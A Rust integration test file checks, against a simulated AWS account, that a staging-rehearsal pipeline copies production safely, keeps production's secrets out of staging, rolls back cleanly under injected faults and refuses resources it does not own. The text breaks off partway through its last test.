//! The staging pipeline end to end: the real `statemachine/staging.asl.json`, run by the local
//! runner, calling the step handlers against the simulated account on a virtual clock.

use rehearsal_cli::execution::RunError;
use rehearsal_cli::follow_up::{staging_execution_arn, staging_state_machine_arn};
use rehearsal_cli::local::{run_on, LocalRun};
use rehearsal_cli::report::{AccountRecord, RunReport, RunStatus, StateSummary};
use rehearsal_core::cloud::{ExecutionInfo, ParameterKind, ParameterStore, PaymentWebhooks, Rds, ServiceHost, ServiceLocation};
use rehearsal_core::lease::{lease_parameter, Lease, LeasedEnvironment};
use rehearsal_core::plan::staging_parameter_keys;
use rehearsal_core::steps::Step;
use rehearsal_core::tags::{RunTags, RUN_KEY};
use rehearsal_sim::seed;
use rehearsal_sim::FaultKind;
use rehearsal_tests::{new_account, run_pipeline, runtime, start_time, states_entered, BACKUP_SNAPSHOT, RUN_ID};
use serde_json::{json, Value};

fn span<'a>(report: &'a RunReport, name: &str) -> &'a StateSummary {
    report.summary.iter().find(|s| s.name == name).unwrap_or_else(|| panic!("{name} was never entered: {:?}", states_entered(report)))
}

/// What the simulated account recorded.
fn ledger(report: &RunReport) -> &AccountRecord {
    report.ledger().expect("a local run's report has the account's ledger")
}

fn created_ids(report: &RunReport) -> Vec<String> {
    ledger(report).resources_created.as_array().unwrap().iter().map(|r| r["id"].as_str().unwrap().to_string()).collect()
}

#[test]
fn happy_path_builds_staging_and_passes_every_check() {
    runtime().block_on(async {
        let account = new_account();
        let report = run_pipeline(&account, json!({}), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?} {:?}", report.error, report.cause);
        assert_eq!(report.run_id, RUN_ID);

        // Every check of runbook steps 5-7 ran and passed.
        let names: Vec<&str> = report.checks.iter().map(|c| c["name"].as_str().unwrap()).collect();
        for expected in
            ["tenant tables exist", "every issuer has a tenant", "health endpoint returns 200", "token refresh", "tenant registration"]
        {
            assert!(names.contains(&expected), "{expected} missing from {names:?}");
        }
        assert!(report.checks.iter().all(|c| c["passed"] == Value::Bool(true)), "{:#?}", report.checks);

        // Staging exists, named and tagged as the runbook says; production was only read.
        let created = created_ids(&report);
        for id in [BACKUP_SNAPSHOT, "tableicty-staging-db", "tableicty-staging-backend", "/tableicty/staging/DATABASE_URL"] {
            assert!(created.iter().any(|c| c.contains(id)), "{id} not in {created:?}");
        }
        assert_eq!(ledger(&report).production_writes, json!([]), "production was written");
        // Production's parameter and option groups, never the defaults a restore would get.
        let production_groups = (seed::PRODUCTION_DB_PARAMETER_GROUP.to_string(), seed::PRODUCTION_DB_OPTION_GROUP.to_string());
        assert_eq!(account.db_groups("tableicty-staging-db"), Some(production_groups));

        // The running app sees the final FRONTEND_URL (it was deployed again after writing it)
        // and a DATABASE_URL pointing at the staging instance.
        let env = account.service_environment("tableicty-staging-backend").expect("the staging service runs");
        let url = report.output.as_ref().unwrap()["staging_url"].as_str().unwrap().to_string();
        assert_eq!(env.get("FRONTEND_URL"), Some(&url));
        assert!(env["DATABASE_URL"].contains("tableicty-staging-db."), "DATABASE_URL points elsewhere");
        assert_eq!(env.get("IS_PRODUCTION").map(String::as_str), Some("False"));

        // It runs as the stack's staging role, built from production's repository and the
        // stack's build (production reads apprunner.yaml), never as production's role.
        let session = account.session("test");
        let staging = session.find_service("tableicty-staging-backend", &ServiceLocation::AppRunner).await.unwrap().unwrap();
        let production = session.find_service(seed::PRODUCTION_SERVICE, &ServiceLocation::AppRunner).await.unwrap().unwrap();
        assert_eq!(staging.instance_role_arn.as_deref(), Some(seed::STAGING_INSTANCE_ROLE_ARN));
        assert_ne!(staging.instance_role_arn, production.instance_role_arn);
        assert_eq!(staging.source.as_ref().map(|s| s.repository_url.as_str()), Some(seed::REPOSITORY_URL));
        assert_eq!(staging.build, Some(seed::stack_settings().build));

        // The staging copy answers to a password of its own, kept only in the staging
        // DATABASE_URL: production's appears nowhere in the run (report, ledger, output,
        // parameters, the app's environment).
        let password_of = |url: &str| rehearsal_core::database_url::target(&rehearsal_core::Secret::new(url)).unwrap().password;
        let production_url = session.get_parameter("/tableicty/production/DATABASE_URL").await.unwrap().unwrap().value;
        let production_password = password_of(production_url.expose());
        let staging_url = session.get_parameter("/tableicty/staging/DATABASE_URL").await.unwrap().unwrap().value;
        assert_ne!(password_of(staging_url.expose()), production_password);
        assert_eq!(password_of(&env["DATABASE_URL"]), password_of(staging_url.expose()), "the app runs with the staging password");
        let report_text = serde_json::to_string(&report).unwrap();
        assert!(!report_text.contains(production_password.expose()), "production's password is in the run's report");
        for name in staging_parameter_keys().into_iter().map(|k| format!("{}{k}", seed::STAGING_PARAMETER_PATH)) {
            if let Some(p) = session.get_parameter(&name).await.unwrap() {
                assert!(!p.value.expose().contains(production_password.expose()), "{name} holds production's password");
            }
        }
        assert!(env.values().all(|v| !v.contains(production_password.expose())), "the staging app sees production's password");

        // A test-mode Stripe endpoint for the staging URL, whose fresh signing secret the app sees.
        let webhooks: Vec<_> = account.existing_resources().into_iter().filter(|r| r.kind == "stripe-webhook").collect();
        assert_eq!(webhooks.len(), 1, "{webhooks:?}");
        assert_eq!(webhooks[0].status, "test");
        assert_eq!(webhooks[0].tags.get("rehearsal:run-id").map(String::as_str), Some(RUN_ID));
        let signing = &env["STRIPE_WEBHOOK_SECRET"];
        assert!(signing.starts_with("whsec_") && !signing.starts_with("whsec_test_"), "the copied secret, not the new endpoint's");
        assert!(env["STRIPE_SECRET_KEY"].starts_with("sk_test_"));

        // The one-time backfill token is gone again.
        assert!(ledger(&report).leftovers.iter().all(|r| !r.contains("BACKFILL_TOKEN")), "{:?}", ledger(&report).leftovers);

        // The staging frontend: production's build in a private, encrypted bucket of this run's,
        // its runtime configuration pointed at the staging backend; production's left as it was.
        let bucket = account.bucket("tableicty-staging").expect("the staging frontend bucket exists");
        assert!(bucket.public_access_blocked && bucket.encryption == Some("AES256"), "{bucket:?}");
        assert_eq!(bucket.tags.get(RUN_KEY).map(String::as_str), Some(RUN_ID));
        let production_frontend = account.bucket(seed::PRODUCTION_FRONTEND_BUCKET).unwrap();
        assert_eq!(bucket.objects.keys().collect::<Vec<_>>(), production_frontend.objects.keys().collect::<Vec<_>>());
        for (key, body) in &production_frontend.objects {
            if key != "config.json" {
                assert_eq!(&bucket.objects[key], body, "{key} differs");
            }
        }
        let config: Value = serde_json::from_slice(&bucket.objects["config.json"]).unwrap();
        assert_eq!(config["apiUrl"].as_str(), Some(url.as_str()), "{config}");
        assert_eq!(report.output.as_ref().unwrap()["frontend"]["config"]["api_url"].as_str(), Some(url.as_str()));
        assert_eq!(production_frontend.versions, seed::PRODUCTION_FRONTEND.len(), "production's bucket was written");
    });
}

#[test]
fn a_failure_after_the_frontend_copy_deletes_the_staging_bucket_with_every_version() {
    runtime().block_on(async {
        let account = new_account();
        // More than one listing page of production's build.
        account.add_production_frontend_objects("assets/chunk-", 1500);
        let report = run_pipeline(&account, json!({}), &["validate_staging=failed-check"]).await.unwrap();
        assert_eq!(report.status, RunStatus::RolledBack, "{:?} {:?}", report.error, report.cause);
        assert!(created_ids(&report).contains(&"tableicty-staging".to_string()), "{:?}", created_ids(&report));
        assert_eq!(account.bucket("tableicty-staging"), None, "the staging bucket is left");
        assert!(ledger(&report).leftovers.is_empty(), "{:?}", ledger(&report).leftovers);
        assert_eq!(ledger(&report).production_writes, json!([]));
    });
}

/// `frontend.serving: cloudfront`: the distribution's URL is FRONTEND_URL before the service
/// exists, so the service starts with every variable and is deployed once.
#[test]
fn served_through_cloudfront_staging_starts_with_every_variable_and_is_deployed_once() {
    runtime().block_on(async {
        let account = new_account();
        let report = run_pipeline(&account, json!({"frontend": {"serving": "cloudfront"}}), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?} {:?}", report.error, report.cause);
        assert!(report.checks.iter().all(|c| c["passed"] == Value::Bool(true)), "{:#?}", report.checks);
        let [(distribution, origin)] = account.distributions().try_into().expect("one distribution");
        assert_eq!((distribution.status.as_str(), distribution.enabled, origin.as_str()), ("Deployed", true, "tableicty-staging"));
        let served = &report.output.as_ref().unwrap()["frontend"]["served"];
        let frontend_url = format!("https://{}", distribution.domain_name);
        assert_eq!(served["url"].as_str(), Some(frontend_url.as_str()), "{served}");
        let env = account.service_environment("tableicty-staging-backend").expect("the staging service runs");
        assert_eq!(env.get("FRONTEND_URL"), Some(&frontend_url));
        assert!(env["STRIPE_WEBHOOK_SECRET"].starts_with("whsec_"));
        let calls = account.ledger().calls;
        assert!(!calls.iter().any(|c| c.operation == "UpdateService"), "the service was deployed again");
        assert!(!report.states.iter().any(|s| s.name == "PublishFrontendUrl"));
        // The endpoint, made before the service, now posts to it.
        let staging_url = report.output.as_ref().unwrap()["staging_url"].as_str().unwrap().to_string();
        let session = account.session("test");
        let key = session.get_parameter("/tableicty/staging/STRIPE_SECRET_KEY").await.unwrap().unwrap().value;
        let [endpoint] = session.list_webhooks(&key).await.unwrap().try_into().expect("one endpoint");
        assert!(endpoint.url.starts_with(&format!("{staging_url}/")), "{} is not on {staging_url}", endpoint.url);
        assert_eq!(ledger(&report).production_writes, json!([]));

        // A re-run adopts the distribution, the endpoint and its secret: the running service,
        // adopted without a new deployment, still has the secret the endpoint signs with.
        let again = run_pipeline(&account, json!({"frontend": {"serving": "cloudfront"}}), &[]).await.unwrap();
        assert_eq!(again.status, RunStatus::Succeeded, "{:?} {:?}", again.error, again.cause);
        assert_eq!(account.distributions().len(), 1);
        let [again_endpoint] = session.list_webhooks(&key).await.unwrap().try_into().expect("still one endpoint");
        assert_eq!(again_endpoint.id, endpoint.id);
        let stored = session.get_parameter("/tableicty/staging/STRIPE_WEBHOOK_SECRET").await.unwrap().unwrap().value;
        let env = account.service_environment("tableicty-staging-backend").unwrap();
        assert_eq!(env["STRIPE_WEBHOOK_SECRET"], stored.expose(), "the running service's secret is the stored one");

        // A failed rehearsal removes the distribution with the rest.
        let account = new_account();
        let report =
            run_pipeline(&account, json!({"frontend": {"serving": "cloudfront"}}), &["validate_staging=failed-check"]).await.unwrap();
        assert_eq!(report.status, RunStatus::RolledBack, "{:?} {:?}", report.error, report.cause);
        assert!(account.distributions().is_empty() && account.bucket("tableicty-staging").is_none());
        assert!(ledger(&report).leftovers.is_empty(), "{:?}", ledger(&report).leftovers);
    });
}

#[test]
fn served_through_cloudfront_every_fault_in_every_mutating_step_ends_in_success_or_a_clean_rollback() {
    let (runs, failures) = runtime().block_on(fault_matrix(json!({"frontend": {"serving": "cloudfront"}}), |_| {}, 15));
    assert!(failures.is_empty(), "{} of {runs} runs went wrong:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn a_staging_bucket_name_another_account_holds_is_refused_and_kept() {
    runtime().block_on(async {
        let account = new_account();
        account.plant_foreign_bucket("tableicty-staging");
        let report = run_pipeline(&account, json!({}), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::RolledBack, "{:?} {:?}", report.error, report.cause);
        let cause = report.cause.as_deref().unwrap_or_default();
        assert!(cause.contains("tableicty-staging") && cause.contains("another AWS account"), "{cause}");
        let calls = account.ledger().calls;
        assert!(!calls.iter().any(|c| c.operation == "CreateBucket" || c.operation == "DeleteBucket"), "the foreign bucket was touched");
        assert!(ledger(&report).leftovers.is_empty(), "{:?}", ledger(&report).leftovers);
    });
}

#[test]
fn critical_path_holds_only_true_dependencies() {
    runtime().block_on(async {
        let report = run_pipeline(&new_account(), json!({}), &[]).await.unwrap();
        let restore_done = span(&report, "WriteStagingDatabaseUrl").first_start_seconds;
        // Parameters and the teardown schedule are written while the snapshot is still being taken.
        assert!(span(&report, "WriteStagingParameters").last_end_seconds.unwrap() < 60.0);
        assert!(span(&report, "ScheduleStagingTeardown").last_end_seconds.unwrap() < 60.0);
        // Snapshot (~10 min) then restore (~12 min): the database chain is the long pole.
        assert!(restore_done >= 22.0 * 60.0, "restore finished at {restore_done}");
        // The migration checks do not wait for the FRONTEND_URL redeploy.
        let migrations = span(&report, "VerifyStagingMigrations").first_start_seconds;
        let redeployed = span(&report, "FrontendUrlPublished").first_start_seconds;
        assert!(migrations < redeployed, "migrations at {migrations} waited for the redeploy at {redeployed}");
        // Virtual time is about the AWS time the runbook lists, not more.
        assert!(report.seconds < 45.0 * 60.0, "{}", report.seconds);
        for state in &report.states {
            assert!(state.end_seconds.is_some(), "{} has no end", state.name);
        }
    });
}

#[test]
fn a_rerun_with_the_same_input_adopts_what_exists() {
    runtime().block_on(async {
        let account = new_account();
        let first = run_pipeline(&account, json!({}), &[]).await.unwrap();
        assert_eq!(first.status, RunStatus::Succeeded);
        let second = run_pipeline(&account, json!({}), &[]).await.unwrap();
        assert_eq!(second.status, RunStatus::Succeeded, "{:?} {:?}", second.error, second.cause);
        let created = created_ids(&second);
        for id in [BACKUP_SNAPSHOT, "tableicty-staging-db", "tableicty-staging-backend"] {
            assert_eq!(created.iter().filter(|c| c.contains(id)).count(), 1, "{id} created again: {created:?}");
        }
        // The staging frontend bucket is adopted and copied into again, not created again.
        assert_eq!(created.iter().filter(|c| *c == "tableicty-staging").count(), 1, "bucket created again: {created:?}");
        assert!(account.bucket("tableicty-staging").is_some_and(|b| b.objects.len() == seed::PRODUCTION_FRONTEND.len()));
        assert_eq!(ledger(&second).production_writes, json!([]));
    });
}

#[test]
fn a_forged_backup_older_than_the_execution_is_neither_adopted_nor_deleted() {
    runtime().block_on(async {
        let account = new_account();
        // Someone allowed to tag snapshots made one by hand under the run's backup name, with
        // the run's tags, an hour before the execution started.
        let forged = RunTags { app: "tableicty".into(), environment: "staging".into(), run_id: RUN_ID.into() }.to_tags();
        account.plant_snapshot(BACKUP_SNAPSHOT, seed::PRODUCTION_DB, forged, start_time() - chrono::Duration::hours(1)).unwrap();
        let report = run_pipeline(&account, json!({}), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::RolledBack);
        assert_eq!(report.error.as_deref(), Some("ResourceNotOwnedError"), "{:?}", report.cause);
        assert!(report.cause.as_deref().unwrap().contains("before this run's execution started"), "{:?}", report.cause);
        // The rollback left it alone, tags or not.
        assert!(account.session("test").describe_snapshot(BACKUP_SNAPSHOT).await.unwrap().is_some(), "the forged backup was deleted");
        let deleted = ledger(&report).resources_deleted.to_string();
        assert!(!deleted.contains(BACKUP_SNAPSHOT), "{deleted}");
    });
}

#[test]
fn a_database_url_that_does_not_log_in_as_the_master_user_is_refused_before_the_service_exists() {
    runtime().block_on(async {
        let account = new_account();
        // Production's app logs in as another role: only the master's password can be reset, so
        // staging would keep production's password for it.
        let session = account.session("operator");
        let url = session.get_parameter("/tableicty/production/DATABASE_URL").await.unwrap().unwrap().value;
        let other = url.expose().replacen(&format!("//{}:", seed::DB_MASTER_USER), "//tableicty_app:", 1);
        assert_ne!(other, url.expose());
        session
            .put_parameter("/tableicty/production/DATABASE_URL", &rehearsal_core::Secret::new(other), ParameterKind::SecureString, true)
            .await
            .unwrap();
        let report = run_pipeline(&account, json!({}), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::RolledBack);
        assert_eq!(report.error.as_deref(), Some("ProductionNotReadyError"), "{:?}", report.cause);
        assert!(report.cause.as_deref().unwrap().contains("not as the master user"), "{:?}", report.cause);
        assert!(!states_entered(&report).contains(&"CreateStagingService".to_string()));
    });
}

#[test]
fn a_generated_secret_key_is_staging_s_own_and_the_output_says_what_copying_exposes() {
    runtime().block_on(async {
        let account = new_account();
        let copied = run_pipeline(&account, json!({}), &[]).await.unwrap();
        let exposes = copied.output.as_ref().unwrap()["secret_key"]["exposes"].as_str().unwrap().to_string();
        assert!(exposes.contains("production's SECRET_KEY") && exposes.contains("sign"), "{exposes}");

        let account = new_account();
        let report = run_pipeline(&account, json!({"staging": {"secret_key": "generate"}}), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?}", report.cause);
        assert_eq!(report.output.as_ref().unwrap()["secret_key"]["source"], "generate");
        let session = account.session("test");
        let value = |name: &'static str| {
            let session = &session;
            async move { session.get_parameter(name).await.unwrap().unwrap().value }
        };
        let (production, staging) = (value("/tableicty/production/SECRET_KEY").await, value("/tableicty/staging/SECRET_KEY").await);
        assert_ne!(production, staging);
        let env = account.service_environment("tableicty-staging-backend").unwrap();
        assert_eq!(env["SECRET_KEY"], staging.expose());
        // PGCRYPTO_KEY is still production's: the restored data is encrypted with it.
        assert_eq!(value("/tableicty/production/PGCRYPTO_KEY").await, value("/tableicty/staging/PGCRYPTO_KEY").await);
    });
}

/// Which error a fault must end in (`None`: the run succeeds, e.g. after retries or because the
/// fault kind has nothing to act on in that step).
fn expected_error(step: Step, kind: FaultKind) -> Option<&'static str> {
    use FaultKind::*;
    use Step::*;
    match (kind, step) {
        (Throttle, _) => None,
        (Unavailable, _) => Some("TransientError"),
        (Fatal, _) => Some("FatalError"),
        (FailedState, SnapshotProductionDatabase) => Some("SnapshotFailedError"),
        (FailedState, CreateStagingCluster) => Some("ClusterFailedError"),
        (FailedState, RestoreStagingDatabase) => Some("DatabaseFailedError"),
        (FailedState, CreateStagingService) => Some("ServiceFailedError"),
        (FailedState, PublishFrontendUrl) => Some("DeploymentFailedError"),
        (NeverReady, SnapshotProductionDatabase) => Some("SnapshotTimedOutError"),
        (NeverReady, CreateStagingCluster) => Some("ClusterTimedOutError"),
        (NeverReady, RestoreStagingDatabase | ResetStagingDatabasePassword) => Some("DatabaseTimedOutError"),
        // Resetting a password creates nothing a foreign resource could stand in for.
        (AlreadyExists, ResetStagingDatabasePassword) => None,
        // The configuration is an object in the bucket the copy created: no name to conflict on.
        (AlreadyExists, ConfigureStagingFrontend) => None,
        // Someone else's parameter under the lease's name is not a lease: refused, not taken.
        (AlreadyExists, TakeStagingLease) => Some("CheckFailedError"),
        (NeverReady, CreateStagingService) => Some("ServiceTimedOutError"),
        (NeverReady, PublishFrontendUrl) => Some("DeploymentTimedOutError"),
        // CloudFront has no failed state: a change that never ends is the distribution's deadline.
        (NeverReady, ServeStagingFrontend) => Some("DistributionTimedOutError"),
        // Pointing an endpoint at a URL creates nothing a foreign resource could stand in for.
        (AlreadyExists, PointStripeWebhook) => None,
        (AlreadyExists, _) => Some("ResourceNotOwnedError"),
        // The masking records its work but changes nothing: the verification catches it.
        (FailedCheck, MaskStagingDatabase) => Some("CheckFailedError"),
        (FailedState | NeverReady | FailedCheck, _) => None,
        // The call took effect: the step run again finds what it did and goes on.
        (LostResponse, _) => None,
        // Two deliveries at once: one creates, the other finds it the run's and adopts it.
        (Duplicate, _) => None,
        // A read that does not see the step's own write yet is retried until it does.
        (Eventual, _) => None,
        // Seconds more per call: every step stays well inside its TimeoutSeconds.
        (Slow, _) => None,
    }
}

/// Runs every fault kind in every mutating staging step with `document` on an account `prepare`d
/// for it; answers what went wrong (nothing when every run succeeded or rolled back cleanly with
/// the expected error, wrote nothing to production and, when it failed, left nothing).
async fn fault_matrix(document: Value, prepare: fn(&rehearsal_sim::SimAccount), mutating_steps: usize) -> (usize, Vec<String>) {
    // The staging pipeline's own steps (Step::ALL also holds the promote and teardown ones).
    let staging = |s: &Step| rehearsal_cli::local::STAGING_DEFINITION.contains(&format!("${{{}}}", s.arn_key()));
    // The rollback's own steps run only after another failure.
    let in_rollback = [Step::RollbackStaging, Step::ReleaseStagingLease];
    // And the ones this document's staging.source calls (aurora-clone takes no instance snapshot).
    let clean = new_account();
    prepare(&clean);
    let report = run_pipeline(&clean, document.clone(), &[]).await.unwrap();
    assert_eq!(report.status, RunStatus::Succeeded, "{:?} {:?}", report.error, report.cause);
    let called: std::collections::BTreeSet<String> = clean.ledger().calls.iter().map(|c| c.step.clone()).collect();
    let steps: Vec<Step> =
        Step::ALL.iter().copied().filter(|s| staging(s) && s.mutates() && !in_rollback.contains(s) && called.contains(s.name())).collect();
    assert_eq!(steps.len(), mutating_steps, "{steps:?}");
    let mut failures = Vec::new();
    for &step in &steps {
        for &kind in FaultKind::ALL {
            let fault = format!("{}={kind}", step.name());
            let account = new_account();
            prepare(&account);
            let report = run_pipeline(&account, document.clone(), &[&fault]).await.unwrap();
            let fired = !account.ledger().faults_fired.is_empty();
            let expected = expected_error(step, kind);
            let problem = if !ledger(&report).production_writes.as_array().unwrap().is_empty() {
                Some(format!("wrote production: {}", ledger(&report).production_writes))
            } else if report.status != RunStatus::Succeeded && !ledger(&report).leftovers.is_empty() {
                // A successful run leaves staging up for its time to live; a failed one must not.
                Some(format!("left {:?}", ledger(&report).leftovers))
            } else if (expected.is_some() || matches!(kind, FaultKind::LostResponse | FaultKind::Duplicate)) && !fired {
                Some("the fault never fired".to_string())
            } else {
                match (expected, &report.status, report.error.as_deref()) {
                    (None, RunStatus::Succeeded, _) => None,
                    (Some(e), RunStatus::RolledBack, Some(got)) if got == e => None,
                    // Before the lease is held the run has created nothing, and a rollback
                    // would delete what the holder created: it fails as it is.
                    (Some(e), RunStatus::Failed, Some(got))
                        if got == e
                            && step == Step::TakeStagingLease
                            && ledger(&report).resources_created.as_array().unwrap().is_empty() =>
                    {
                        None
                    }
                    _ => Some(format!("expected {expected:?}, got {:?} {:?}: {:?}", report.status, report.error, report.cause)),
                }
            };
            if let Some(problem) = problem {
                failures.push(format!("{fault}: {problem}"));
            }
        }
    }
    (steps.len() * FaultKind::ALL.len(), failures)
}

/// After a failure, every fault kind in the rollback's own steps: a rollback the fault lets
/// finish (after retries, or by finding what a lost answer did) leaves nothing and releases the
/// lease; one it stops (every call denied or failing, a deletion that fails or never ends)
/// gives up loudly in RollbackGaveUp, keeping the teardown schedule that removes the rest; a
/// lease that cannot be released is all that is left, and the next run takes it over.
/// Production is never written.
#[test]
fn every_fault_in_the_rollbacks_own_steps_ends_clean_or_gives_up_loudly() {
    use FaultKind::*;
    runtime().block_on(async {
        let mut failures = Vec::new();
        for step in [Step::RollbackStaging, Step::ReleaseStagingLease] {
            for &kind in FaultKind::ALL {
                let fault = format!("{}={kind}", step.name());
                let account = new_account();
                let report = run_pipeline(&account, json!({}), &["create_staging_service=failed-state", &fault]).await.unwrap();
                let record = ledger(&report);
                // Every deletion fails, never ends, or every call is refused.
                let gives_up = step == Step::RollbackStaging && matches!(kind, Unavailable | Fatal | FailedState | NeverReady);
                // Staging is gone but its lease is not released: the next run takes it over
                // (its holder has ended and holds no staging).
                let keeps_lease = step == Step::ReleaseStagingLease && matches!(kind, Unavailable | Fatal);
                let ended_in = report.states.last().map(|s| s.name.as_str()).unwrap_or_default();
                let problem = if !record.production_writes.as_array().unwrap().is_empty() {
                    Some(format!("wrote production: {}", record.production_writes))
                } else if keeps_lease {
                    let lease = ["parameter /rehearsal/leases/tableicty/staging (String)"];
                    (ended_in != "RolledBack" || record.leftovers != lease)
                        .then(|| format!("expected only the lease left after RolledBack, got {ended_in} leaving {:?}", record.leftovers))
                } else if gives_up {
                    (report.status != RunStatus::Failed || ended_in != "RollbackGaveUp")
                        .then(|| format!("expected to give up in RollbackGaveUp, got {:?} in {ended_in}", report.status))
                } else if report.status != RunStatus::RolledBack || !record.leftovers.is_empty() {
                    Some(format!("expected a clean rollback, got {:?} {:?} leaving {:?}", report.status, report.cause, record.leftovers))
                } else {
                    None
                };
                if let Some(problem) = problem {
                    failures.push(format!("{fault}: {problem}"));
                }
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    });
}

#[test]
fn every_fault_in_every_mutating_step_ends_in_success_or_a_clean_rollback() {
    let (runs, failures) = runtime().block_on(fault_matrix(json!({}), |_| {}, 15));
    assert!(failures.is_empty(), "{} of {runs} runs went wrong:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn point_in_time_copies_production_beside_the_safety_snapshot_which_the_rollback_plan_still_gets() {
    runtime().block_on(async {
        let account = new_account();
        let document = json!({"staging": {"source": "point-in-time"}});
        let report = run_pipeline(&account, document.clone(), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?} {:?}", report.error, report.cause);
        assert!(report.checks.iter().all(|c| c["passed"] == Value::Bool(true)), "{:#?}", report.checks);
        assert_eq!(ledger(&report).production_writes, json!([]));
        // The copy is restored from production's backups (not the snapshot), with production's
        // parameter group, while the snapshot is taken; the snapshot is still there, kept.
        let calls: Vec<String> = account.ledger().calls.iter().map(|c| c.operation.clone()).collect();
        assert!(calls.contains(&"RestoreDBInstanceToPointInTime".to_string()), "{calls:?}");
        assert!(!calls.contains(&"RestoreDBInstanceFromDBSnapshot".to_string()), "{calls:?}");
        let snapshot = account.session("test").describe_snapshot(BACKUP_SNAPSHOT).await.unwrap();
        assert!(snapshot.is_some_and(|s| s.status == "available"), "the safety snapshot is missing");
        let production_groups = (seed::PRODUCTION_DB_PARAMETER_GROUP.to_string(), seed::PRODUCTION_DB_OPTION_GROUP.to_string());
        assert_eq!(account.db_groups("tableicty-staging-db"), Some(production_groups));
        let restored = span(&report, "RestoreStagingDatabaseToPointInTime").first_start_seconds;
        let snapshot_ready = span(&report, "IsRestoreStarted").first_start_seconds;
        assert!(restored < 60.0 && snapshot_ready >= 10.0 * 60.0, "the restore did not start before the snapshot's wait");
        // The snapshot's 10 minutes are off the critical path (34 minutes with snapshot).
        assert!(report.seconds <= 27.0 * 60.0, "{}", report.seconds);

        // A second run adopts what the first made.
        let again = run_pipeline(&account, document, &[]).await.unwrap();
        assert_eq!(again.status, RunStatus::Succeeded, "{:?} {:?}", again.error, again.cause);
        let created = created_ids(&again);
        for id in [BACKUP_SNAPSHOT, "tableicty-staging-db"] {
            assert_eq!(created.iter().filter(|c| c.contains(id)).count(), 1, "{id} created again: {created:?}");
        }
    });
}

#[test]
fn identifiers_in_any_case_name_the_same_rds_resources_as_rds_reads_them_case_insensitively() {
    runtime().block_on(async {
        let account = new_account();
        let document = json!({
            "production": {"db_instance_id": "Tableicty-Production-DB"},
            "staging": {"db_instance_id": "Tableicty-Staging-DB"},
        });
        let report = run_pipeline(&account, document, &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?} {:?}", report.error, report.cause);
        assert_eq!(ledger(&report).production_writes, json!([]));
        assert!(created_ids(&report).iter().any(|id| id.ends_with("tableicty-staging-db")), "{:?}", created_ids(&report));
        // A failed run with the same spelling rolls back what it made, whatever the case.
        let account = new_account();
        let document = json!({"staging": {"db_instance_id": "TABLEICTY-STAGING-DB"}});
        let report = run_pipeline(&account, document, &["validate_staging=failed-check"]).await.unwrap();
        assert_eq!(report.status, RunStatus::RolledBack, "{:?} {:?}", report.error, report.cause);
        assert!(ledger(&report).leftovers.is_empty(), "{:?}", ledger(&report).leftovers);
    });
}

#[test]
fn a_variable_production_reads_from_parameter_store_is_never_silently_missing_in_staging() {
    runtime().block_on(async {
        let account = new_account();
        account.add_production_secret("SENTRY_DSN", "https://live-key@sentry.example/1");
        let refused = run_pipeline(&account, json!({}), &[]).await.unwrap();
        assert_eq!(refused.error.as_deref(), Some("InvalidInputError"), "{:?}", refused.cause);
        let cause = refused.cause.as_deref().unwrap();
        assert!(cause.contains("service.environment") && cause.contains("SENTRY_DSN"), "{cause}");
        assert!(created_ids(&refused).is_empty(), "{:?}", created_ids(&refused));

        // A staging value of its own: the run goes on, and the app sees that value, not production's.
        let mut document = json!({"service": {"environment": {"IS_PRODUCTION": "False", "DEBUG": "False", "ALLOWED_HOSTS": "*"}}});
        document["service"]["environment"]["SENTRY_DSN"] = json!("");
        let report = run_pipeline(&account, document, &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?} {:?}", report.error, report.cause);
        let env = account.service_environment("tableicty-staging-backend").expect("the staging service runs");
        assert_eq!(env.get("SENTRY_DSN").map(String::as_str), Some(""));
    });
}

#[test]
fn a_busy_production_is_waited_for_before_its_snapshot_not_rolled_back() {
    runtime().block_on(async {
        let account = new_account();
        account.make_production_busy("backing-up", 12);
        let report = run_pipeline(&account, json!({}), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?} {:?}", report.error, report.cause);
        let refused = account.ledger().calls.iter().filter(|c| c.operation == "CreateDBSnapshot").count();
        assert!(refused > 1, "CreateDBSnapshot was not asked again while production was busy");
        // The snapshot began once production was available again: 12 minutes later than usual.
        assert!(report.seconds >= (34.0 + 12.0) * 60.0 && report.seconds <= (34.0 + 14.0) * 60.0, "{}", report.seconds);
        assert_eq!(ledger(&report).production_writes, json!([]));
    });
}

#[test]
fn point_in_time_is_refused_before_any_write_when_production_keeps_no_backups() {
    runtime().block_on(async {
        let account = new_account();
        account.disable_production_backups();
        let report = run_pipeline(&account, json!({"staging": {"source": "point-in-time"}}), &[]).await.unwrap();
        assert_eq!(report.error.as_deref(), Some("InvalidInputError"), "{:?}", report.cause);
        assert!(report.cause.as_deref().unwrap().contains("staging.source"), "{:?}", report.cause);
        assert!(
            account.ledger().calls.iter().all(|c| ["Describe", "Get", "List"].iter().any(|read| c.operation.starts_with(read))),
            "a write was made"
        );
        assert!(created_ids(&report).is_empty());
    });
}

#[test]
fn point_in_time_every_fault_in_every_mutating_step_ends_in_success_or_a_clean_rollback() {
    let (runs, failures) = runtime().block_on(fault_matrix(json!({"staging": {"source": "point-in-time"}}), |_| {}, 15));
    assert!(failures.is_empty(), "{} of {runs} runs went wrong:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn aurora_clone_clones_production_s_cluster_and_adds_one_staging_instance() {
    runtime().block_on(async {
        let account = new_account();
        account.make_production_aurora();
        let document = json!({"staging": {"source": "aurora-clone"}});
        let report = run_pipeline(&account, document.clone(), &[]).await.unwrap();
        assert_eq!(report.status, RunStatus::Succeeded, "{:?} {:?}", report.error, report.cause);
        assert!(report.checks.iter().all(|c| c["passed"] == Value::Bool(true)), "{:#?}", report.checks);
        assert_eq!(ledger(&report).production_writes, json!([]));
        let calls: Vec<String> = account.ledger().calls.iter().map(|c| c.operation.clone()).collect();
